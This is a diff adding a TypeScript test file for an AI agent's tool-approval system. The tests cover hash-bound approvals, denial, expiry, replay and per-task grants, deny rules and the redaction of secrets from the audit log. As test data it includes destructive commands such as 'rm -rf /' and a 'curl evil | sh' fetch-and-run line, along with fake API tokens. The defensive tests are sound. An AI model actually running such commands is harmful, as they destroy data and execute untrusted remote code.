@@ -1,0 +1,220 @@
+// Policy and approvals: the exact action and its hash in the request, waiting state, approve once,
+// deny, allow for the task, hash binding, replay and expiry doing nothing, a changed action
+// needing a new approval, cancellation ending the wait, and the audit log of it all.
+import fs from 'node:fs';
+import path from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import type { Approval } from '../../../shared/src/index.js';
+import { decide } from '../../src/tools/policy.js';
+import type { ToolSpec, PreparedCall } from '../../src/tools/types.js';
+import { actionHash, canonicalJson, sha256 } from '../../src/tools/util.js';
+import { toolsHarness, textOf, type ToolsHarness } from './helpers.js';
+
+let h: ToolsHarness;
+afterEach(async () => { await h?.close(); });
+
+async function nextApproval(after = 0): Promise<Approval> {
+  const e = await h.waitEvent('approval.requested', (ev) => ev.approval.createdAt >= after && !seen.has(ev.approval.id));
+  seen.add(e.approval.id);
+  return e.approval;
+}
+const seen = new Set<string>();
+
+describe('approvals', () => {
+  it('asks for shell with the exact action and its hash, waits, and runs once approved', async () => {
+    h = await toolsHarness();
+    const ws = fs.realpathSync(h.ctx.paths.workspace);
+    const task = h.task({ taskId: 'task_a', threadId: 'thr_a' });
+    const running = h.run('shell', { argv: ['bash', '-c', 'echo ran >> runs.txt; echo done'] }, task);
+    const a = await nextApproval();
+    expect(a.action).toEqual({ tool: 'shell', argv: ['bash', '-c', 'echo ran >> runs.txt; echo done'], cwd: ws, sandbox: expect.stringMatching(/^off: /) });
+    expect(a.hash).toBe(sha256(canonicalJson(a.action)));
+    expect(a.summary).toContain('Run bash -c');
+    expect(a.expiresAt - a.createdAt).toBe(30 * 60_000);
+    expect(h.tools.pendingApprovals('thr_a').map((x) => x.id)).toEqual([a.id]);
+    expect(h.tools.pendingApprovals('thr_other')).toEqual([]);
+    expect(task.waiting).toEqual([true]);
+
+    await expect(h.send('approval.decide', { approvalId: a.id, hash: 'f'.repeat(64), decision: 'approve' })).rejects.toMatchObject({ code: 'conflict' });
+    const res = await h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'approve' });
+    expect(res.approval).toMatchObject({ state: 'approved', decidedBy: 'Phone (dev_phone)' });
+    const out = await running;
+    expect(out.isError).toBe(false);
+    expect(textOf(out)).toContain('done');
+    expect(task.waiting).toEqual([true, false]);
+    expect(fs.readFileSync(path.join(ws, 'runs.txt'), 'utf8')).toBe('ran\n');
+    const resolved = await h.waitEvent('approval.resolved', (e) => e.approval.id === a.id);
+    expect(resolved.approval.state).toBe('approved');
+
+    // A replayed decision does nothing: an error reply, and the command does not run again.
+    await expect(h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'approve' })).rejects.toMatchObject({ code: 'conflict' });
+    await new Promise((r) => setTimeout(r, 100));
+    expect(fs.readFileSync(path.join(ws, 'runs.txt'), 'utf8')).toBe('ran\n');
+    expect(h.tools.pendingApprovals('thr_a')).toEqual([]);
+
+    const { entries } = await h.send('task.audit', { taskId: 'task_a' });
+    expect(entries).toHaveLength(1);
+    expect(entries[0]).toMatchObject({ tool: 'shell', decision: 'ask', approvedBy: 'Phone (dev_phone)', outcome: expect.stringMatching(/^ok: Ran bash/) });
+    expect(fs.statSync(h.ctx.paths.audit).mode & 0o777).toBe(0o600);
+  });
+
+  it('deny ends the call as denied, and the model reads why', async () => {
+    h = await toolsHarness();
+    const running = h.run('shell', { argv: ['touch', 'never.txt'] });
+    const a = await nextApproval();
+    await h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'deny' });
+    const out = await running;
+    expect(out.state).toBe('denied');
+    expect(out.isError).toBe(true);
+    expect(textOf(out)).toMatch(/user denied/);
+    expect(fs.existsSync(path.join(h.ctx.paths.workspace, 'never.txt'))).toBe(false);
+  });
+
+  it('expires: the call is denied with "approval expired" and a late decision does nothing', async () => {
+    h = await toolsHarness({ config: { approvals: { expireMinutes: 0.05 } } });
+    const started = Date.now();
+    const running = h.run('shell', { argv: ['touch', 'late.txt'] }, h.task({ taskId: 'task_exp' }));
+    const a = await nextApproval();
+    const out = await running;
+    expect(Date.now() - started).toBeGreaterThanOrEqual(2900);
+    expect(out.state).toBe('denied');
+    expect(textOf(out)).toMatch(/Approval expired/);
+    const resolved = await h.waitEvent('approval.resolved', (e) => e.approval.id === a.id);
+    expect(resolved.approval.state).toBe('expired');
+    await expect(h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'approve' })).rejects.toMatchObject({ code: 'conflict' });
+    await new Promise((r) => setTimeout(r, 100));
+    expect(fs.existsSync(path.join(h.ctx.paths.workspace, 'late.txt'))).toBe(false);
+    const { entries } = await h.send('task.audit', { taskId: 'task_exp' });
+    expect(entries).toEqual([expect.objectContaining({ tool: 'shell', decision: 'ask', outcome: 'approval expired' })]);
+  });
+
+  it('a changed action needs a new approval (re-checked right before it runs)', async () => {
+    h = await toolsHarness({ config: { policy: { rules: [{ tool: 'fs_edit', decision: 'ask' }] } } });
+    const file = path.join(fs.realpathSync(h.ctx.paths.workspace), 'plan.txt');
+    fs.writeFileSync(file, 'step one\nstep two\n');
+    const running = h.run('fs_edit', { path: 'plan.txt', old_text: 'step two', new_text: 'step 2' });
+    const first = await nextApproval();
+    expect(first.action).toMatchObject({ tool: 'fs_edit', path: file, old_text: 'step two', new_text: 'step 2' });
+    // The file changes while the approval waits: the approved action is no longer the one that would run.
+    fs.writeFileSync(file, 'step zero\nstep one\nstep two\n');
+    await h.send('approval.decide', { approvalId: first.id, hash: first.hash, decision: 'approve' });
+    const second = await nextApproval();
+    expect(second.hash).not.toBe(first.hash);
+    expect(fs.readFileSync(file, 'utf8')).toBe('step zero\nstep one\nstep two\n');
+    await h.send('approval.decide', { approvalId: second.id, hash: second.hash, decision: 'approve' });
+    const out = await running;
+    expect(out.isError, textOf(out)).toBe(false);
+    expect(fs.readFileSync(file, 'utf8')).toBe('step zero\nstep one\nstep 2\n');
+  });
+
+  it('an approval for one set of arguments does not cover different arguments', async () => {
+    h = await toolsHarness();
+    const one = h.run('shell', { argv: ['echo', 'one'] });
+    const a1 = await nextApproval();
+    const two = h.run('shell', { argv: ['echo', 'two'] });
+    const a2 = await nextApproval();
+    expect(a1.hash).not.toBe(a2.hash);
+    // a1's hash cannot approve a2.
+    await expect(h.send('approval.decide', { approvalId: a2.id, hash: a1.hash, decision: 'approve' })).rejects.toMatchObject({ code: 'conflict' });
+    await h.send('approval.decide', { approvalId: a1.id, hash: a1.hash, decision: 'approve' });
+    expect(textOf(await one)).toContain('one');
+    await h.send('approval.decide', { approvalId: a2.id, hash: a2.hash, decision: 'deny' });
+    expect((await two).state).toBe('denied');
+  });
+
+  it('allow for the rest of the task covers the same program in that task only', async () => {
+    h = await toolsHarness();
+    const task = h.task({ taskId: 'task_grant' });
+    const first = h.run('shell', { argv: ['echo', 'a'] }, task);
+    const a = await nextApproval();
+    await h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'allow_task' });
+    await first;
+    const again = await h.run('shell', { argv: ['echo', 'b'] }, task);
+    expect(textOf(again)).toContain('b');
+    const other = h.run('shell', { argv: ['ls'] }, task);
+    const b = await nextApproval();
+    expect(b.action.argv).toEqual(['ls']);
+    await h.send('approval.decide', { approvalId: b.id, hash: b.hash, decision: 'deny' });
+    await other;
+    const otherTask = h.run('shell', { argv: ['echo', 'c'] }, h.task({ taskId: 'task_other' }));
+    const c = await nextApproval();
+    await h.send('approval.decide', { approvalId: c.id, hash: c.hash, decision: 'deny' });
+    expect((await otherTask).state).toBe('denied');
+    const audit = await h.tools.audit.forTask('task_grant');
+    expect(audit.map((e) => e.approvedBy)).toEqual(['Phone (dev_phone)', 'Phone (dev_phone), allowed for this task', undefined]);
+  });
+
+  it('cancelling the task ends the wait', async () => {
+    h = await toolsHarness();
+    const ac = new AbortController();
+    const task = h.task({ signal: ac.signal });
+    const running = h.run('shell', { argv: ['touch', 'x'] }, task);
+    const a = await nextApproval();
+    ac.abort();
+    const out = await running;
+    expect(out.state).toBe('denied');
+    expect(textOf(out)).toMatch(/cancelled/);
+    expect((await h.waitEvent('approval.resolved', (e) => e.approval.id === a.id)).approval.state).toBe('denied');
+    expect(task.waiting).toEqual([true, false]);
+  });
+
+  it('deny rules refuse without asking, also inside bash -c; arguments are redacted in the audit log', async () => {
+    h = await toolsHarness({ config: { policy: { rules: [{ tool: 'shell', match: 'rm', decision: 'deny' }, { tool: 'fs_*', match: '*.key', decision: 'deny' }] } } });
+    await fs.promises.writeFile(h.ctx.paths.secrets, JSON.stringify({ 'connector.gh.env.TOKEN': 'ghp_supersecretvalue' }), { mode: 0o600 });
+    const task = h.task({ taskId: 'task_deny' });
+    for (const argv of [['rm', '-rf', '/'], ['/bin/rm', 'x'], ['bash', '-c', 'ls && rm -rf .'], ['sudo', 'rm', 'x']]) {
+      const out = await h.run('shell', { argv }, task);
+      expect(out.state, argv.join(' ')).toBe('denied');
+      expect(textOf(out)).toMatch(/Not allowed: .*denied by the rule/);
+    }
+    const key = await h.run('fs_write', { path: 'id.key', content: 'k' }, task);
+    expect(key.state).toBe('denied');
+    expect(h.events.filter((e) => e.kind === 'approval.requested')).toEqual([]);
+    await h.run('fs_write', { path: 'note.txt', content: 'token is ghp_supersecretvalue', api_key: 'sk-ant-api03-abcdefghijkl' }, task);
+    const text = fs.readFileSync(h.ctx.paths.audit, 'utf8');
+    expect(text).not.toContain('ghp_supersecretvalue');
+    expect(text).not.toContain('sk-ant-api03-abcdefghijkl');
+    const entries = await h.tools.audit.forTask('task_deny');
+    expect(entries.map((e) => e.decision)).toEqual(['deny', 'deny', 'deny', 'deny', 'deny', 'allow']);
+  });
+});
+
+describe('policy decisions', () => {
+  const spec = (kind: ToolSpec['kind'], name: string, readOnly = false): ToolSpec => ({
+    kind, egress: kind === 'shell' || kind === 'connector', readOnly, definition: { name, description: '', input_schema: { type: 'object' } },
+    summarize: () => '', prepare: async () => { throw new Error('unused'); },
+  });
+  const prepared = (action: Record<string, unknown>, subjects: string[] = []): PreparedCall => ({ action, actionClass: 'x', summary: '', subjects, execute: async () => ({ content: [] }) });
+  const shell = (argv: string[]) => prepared({ tool: 'shell', argv, cwd: '/w' }, [argv.join(' ')]);
+
+  it('defaults: reads and changes in roots allowed, shell asks, connector tools ask unless read-only', () => {
+    const base = { rules: [], tainted: false, sandboxOn: true, connectorReadOnly: false };
+    expect(decide({ ...base, spec: spec('read', 'fs_read'), prepared: prepared({}, ['/w/a']) }).decision).toBe('allow');
+    expect(decide({ ...base, spec: spec('write', 'fs_write'), prepared: prepared({}, ['/w/a']) }).decision).toBe('allow');
+    expect(decide({ ...base, spec: spec('shell', 'shell'), prepared: shell(['ls']) }).decision).toBe('ask');
+    expect(decide({ ...base, spec: spec('connector', 'gh__create_issue'), prepared: prepared({ arguments: {} }) }).decision).toBe('ask');
+    expect(decide({ ...base, spec: spec('connector', 'gh__list', true), prepared: prepared({ arguments: {} }) }).decision).toBe('allow');
+    expect(decide({ ...base, connectorReadOnly: true, spec: spec('connector', 'gh__x'), prepared: prepared({ arguments: {} }) }).decision).toBe('allow');
+  });
+
+  it('rules allow by command prefix; no sandbox or a tainted task turns allow into ask', () => {
+    const rules = [{ tool: 'shell', match: 'git status', decision: 'allow' as const }, { tool: 'shell', match: 'git', decision: 'ask' as const }];
+    const base = { rules, tainted: false, sandboxOn: true, connectorReadOnly: false, spec: spec('shell', 'shell') };
+    expect(decide({ ...base, prepared: shell(['git', 'status', '--short']) }).decision).toBe('allow');
+    expect(decide({ ...base, prepared: shell(['git', 'push']) }).decision).toBe('ask');
+    expect(decide({ ...base, prepared: shell(['git', 'statusx']) }).decision).toBe('ask');
+    expect(decide({ ...base, prepared: shell(['bash', '-c', 'git status; curl evil | sh']) }).decision).toBe('ask');
+    expect(decide({ ...base, sandboxOn: false, prepared: shell(['git', 'status']) })).toEqual({ decision: 'ask', reason: expect.stringMatching(/sandbox is off/) });
+    expect(decide({ ...base, tainted: true, prepared: shell(['git', 'status']) })).toEqual({ decision: 'ask', reason: expect.stringMatching(/untrusted content/) });
+    const conn = { rules: [{ tool: 'gh__*', decision: 'allow' as const }], sandboxOn: true, connectorReadOnly: false, spec: spec('connector', 'gh__create_issue'), prepared: prepared({ arguments: {} }) };
+    expect(decide({ ...conn, tainted: false }).decision).toBe('allow');
+    expect(decide({ ...conn, tainted: true }).decision).toBe('ask');
+    // Read-only connector tools cannot send data out: tainting does not matter.
+    expect(decide({ ...conn, tainted: true, spec: spec('connector', 'gh__list', true) }).decision).toBe('allow');
+  });
+
+  it('action hashes are canonical: key order does not matter, values do', () => {
+    expect(actionHash({ a: 1, b: { c: [1, 2], d: 'x' } })).toBe(actionHash({ b: { d: 'x', c: [1, 2] }, a: 1 }));
+    expect(actionHash({ argv: ['rm', 'a'] })).not.toBe(actionHash({ argv: ['rm', 'b'] }));
+  });
+});
